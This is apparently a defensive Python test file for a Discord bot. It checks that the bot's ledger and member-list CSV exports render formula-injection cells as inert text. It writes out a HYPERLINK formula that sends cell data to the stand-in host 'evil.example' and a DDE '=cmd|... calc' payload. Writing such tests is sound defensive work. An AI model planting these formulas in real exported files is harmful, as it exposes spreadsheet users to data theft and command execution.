"""Files that leave the bot: every CSV cell is shown by a spreadsheet, never run, whatever put a
formula in it (a city imported by staff, a display name, a number, a payment method, a reason)."""

from __future__ import annotations

import csv
import io
import json

from tests.e2e.fake_discord.interactions import Attachment
from tests.e2e.fake_discord.models import User
from tests.e2e.harness import Harness
from tests.e2e.test_subsidy import approve, two_reports

FORMULA_STARTS = tuple("=+-@\t\r＝＋－＠")


def csv_sent(harness: Harness, filename: str) -> list[list[str]]:
    call = next(c for c in reversed(harness.fake.calls) if c.files.get(filename))
    data = call.files[filename]
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for Excel
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_no_cell_runs(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), (cell, row)


async def test_the_ledger_csv_shows_an_imported_formula_as_text(harness: Harness):
    staff = harness.world.staff
    first, second = await two_reports(harness)
    exported_call = await (await harness.command("city export", user=staff)).callback()
    exported = json.loads(next(iter(exported_call.files.values())))
    pontiac = next(c for c in exported["cities"] if c["slug"] == "pontiac")
    pontiac["name_en"] = '=HYPERLINK("https://evil.example/?"&A1,"Pontiac")'
    pontiac["name_ja"] = "＝１＋１"
    data = json.dumps(exported).encode()
    imported = await harness.ask("city import", user=staff, file=Attachment("cities.json", data))
    assert imported.content.startswith("Imported"), imported.content
    await approve(harness, first)
    await approve(harness, second)
    [grant] = await harness.autocomplete("subsidy void", "grant", "", user=staff)
    await harness.ask("subsidy void", user=staff, grant=grant["value"], reason="-1+1 twice")
    [grant] = await harness.autocomplete("subsidy paid", "grant", "", user=staff)
    await harness.ask("subsidy paid", user=staff, grant=grant["value"], method="@SUM(1)")
    year = harness.clock.today().year - 1
    for locale in ("en-US", "ja"):
        await harness.ask("subsidy ledger", user=staff, year=year, locale=locale)
        table = csv_sent(harness, f"ledger-{year}.csv")
        assert_no_cell_runs(table)
        cities = {row[2] for row in table[1:]}
        # The file follows the server's language (English here), whoever asks.
        assert cities == {"'" + pontiac["name_en"]}, cities  # kept whole, behind an apostrophe
        assert {row[13] for row in table[1:]} == {"", "'@SUM(1)"}  # paid by
        assert {row[14] for row in table[1:]} == {"", "'-1+1 twice"}  # why cancelled


async def test_the_member_list_csv_shows_formulas_in_names_and_numbers_as_text(harness: Harness):
    await harness.configure()
    sneaky = User("=cmd|' /c calc'!a0")  # Discord shows it as the display name
    options = {"user": sneaky, "number": "+81-77"}
    reply = await harness.ask("member add", user=harness.world.staff, options=options)
    assert "Registered" in reply.content, reply.content
    await harness.ask("member list", user=harness.world.staff)
    table = csv_sent(harness, "members.csv")
    assert_no_cell_runs(table)
    # The Discord name is kept without what would start a formula; the number as typed, as text.
    assert [table[1][0], table[1][3], table[1][7]] == [
        "Cmd|' /C Calc'!A0",
        "'+81-77",
        str(sneaky.id),
    ]
